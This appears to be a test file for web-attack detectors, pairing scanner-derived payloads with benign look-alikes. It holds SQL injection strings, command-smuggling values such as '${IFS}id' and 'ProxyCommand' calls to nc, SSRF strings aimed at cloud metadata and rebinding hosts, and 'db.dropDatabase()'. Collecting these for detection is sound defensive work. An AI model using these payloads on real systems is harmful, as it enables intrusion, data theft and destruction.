// biome-ignore-all lint/suspicious/noTemplateCurlyInString: "${IFS}" is a shell payload, not a template.
import { cmdiDetector } from "../src/detectors/cmdi/index.js";
import { nosqliDetector } from "../src/detectors/nosqli/index.js";
import { sqliDetector } from "../src/detectors/sqli/index.js";
import { ssrfDetector } from "../src/detectors/ssrf/index.js";
import { describeRules, scoreOf } from "./helpers.js";

// Shapes from scanners' payload sets other than the dev corpus (sqlmap's boundaries and tampers, commix, PortSwigger's
// SSRF cheat sheet, argument-injection lists), each next to the everyday values that share its look.

describeRules("sqli: scanner shapes in a numeric position", (value) => scoreOf(sqliDetector, value), {
  "a parenthesised sub-select as the condition after AND/OR": {
    attacks: [
      "1 AND (SELECT 1)=1",
      "1 OR (SELECT 1)=1 #",
      "-1 AND (SELECT user())",
      "1 and (select count(*) from users)>0",
      "1 AND (SELECT user()) IS NOT NULL",
      "1 OR EXISTS(SELECT 1)",
      "1 or exists(select * from users)",
    ],
    benign: ["5 or (select 3 items)", "1 and (select one)", "Pick 1 or (select all)", "2 or exists", "1 AND (see notes)"],
  },
  "MySQL's SOUNDS LIKE as the comparison": {
    attacks: ["1 AND 'a' SOUNDS LIKE 'a'", "1 and 'x' sounds like 'x'"],
    benign: ["it sounds like a plan", "1 sounds like 2 to me"],
  },
  "arithmetic on constants, then compared": {
    attacks: ["1 OR 3*2>(0+5+0+0)", "1 or 3*2>5", "1 and 2+2=4"],
    benign: ["Buy 1 or 2+1 for less", "10 or 2*3 > 5 items are fine", "1 or 2+2"],
  },
  "a multibyte lead byte swallowing the escape of a quote (unmagicquotes)": {
    attacks: ["1%BF%27 AND %BF%271%BF%27=%BF%271", "%BF%27 OR %BF%27a%BF%27=%BF%27a", "%bf' OR 1=1-- "],
    benign: ["caf%E9 'hello'", "%E9t%E9", 'r%E9sum%E9 "draft"'],
  },
});

describeRules("cmdi: commix and argument-injection shapes", (value) => scoreOf(cmdiDetector, value), {
  "$IFS before the command": {
    attacks: ["${IFS}id", "$IFS$()id", "${IFS}whoami"],
    benign: ["${IFS}hello", "price$IFS", "${id}"],
  },
  "a line break after the argument the app expected": {
    attacks: [
      "127.0.0.1\necho ABCDEF",
      "'\r\necho ABCDEF\r\n'",
      "127.0.0.1%0decho ABCDEF",
      "1\ntelnet evil.com 23",
      "127.0.0.1%0anslookup x.oast.me",
    ],
    benign: ["12345\nfind my order please", "v1.2\ntest failed on login", "Hello\nfind my order", "Room 12\ntelnet is down again today"],
  },
  "system-information commands": {
    attacks: ["127.0.0.1|ver", ";df", "| notepad", "& calc", "1%0alsb_release -a", "$(df)", "`ver`"],
    benign: ["sales & calc", "Use the calc", "Ver detalles", "df", "ver 2"],
  },
  "an option that makes the app's program run another": {
    attacks: [
      "-oProxyCommand=id",
      "-o ProxyCommand='nc 10.0.0.1 4444'",
      "--use-compress-program=id",
      "--to-command=id",
      "x --checkpoint-action=exec=sh shell.sh",
      "--upload-pack=touch /tmp/x",
      "-c core.sshCommand=id",
      "-exec id ;",
    ],
    benign: ["use --to-command to pipe", "the find -exec option", "--verbose", "-5", "mp3 -executive", "--", "-o output.txt"],
  },
});

describeRules("ssrf: rebinding services and parser confusion", (value) => scoreOf(ssrfDetector, value), {
  "DNS rebinding names that hold an internal address": {
    attacks: [
      "http://7f000001.c0a80001.rbndr.us/",
      "http://make-127-0-0-1-rr.1u.ms/",
      "http://make-1.2.3.4-rebind-169.254.169.254-rr.1u.ms/",
      "http://spoofed.burpcollaborator.net/admin",
    ],
    benign: ["http://08080808.01010101.rbndr.us/", "https://docs.1u.ms/", "https://burpcollaborator.net/", "https://example.com/a"],
  },
  "slashes and backslashes mixed after a special scheme, and scheme-relative confusion": {
    attacks: ["http:/\\/\\127.0.0.1", "http:///127.0.0.1/", "//evil.com#@127.0.0.1/latest/meta-data/"],
    benign: ["see http://example.com/x and http:\\\\foo", "//cdn.example.com/a.js", "//example.com/#@user"],
  },
});

describeRules("nosqli: more operators and the mongo shell", (value) => scoreOf(nosqliDetector, value), {
  "query operators inside a JSON string value": {
    attacks: [
      '{"$size":0}',
      '{"$mod":[2,0]}',
      '{"$lookup":{"from":"users"}}',
      '{"$text":{"$search":"x"}}',
      '{"$jsonSchema":{}}',
      '{"$all":["a"]}',
    ],
    benign: ["Total: $all of it", "price: $text", "$size", "costs $mod 5"],
  },
  "mongo shell database methods": {
    attacks: ["db.getCollectionNames()", "db.getSiblingDB('admin')", "db.dropDatabase()"],
    benign: ["db.example.com", "my db.getName is weird", "getCollectionNames"],
  },
});
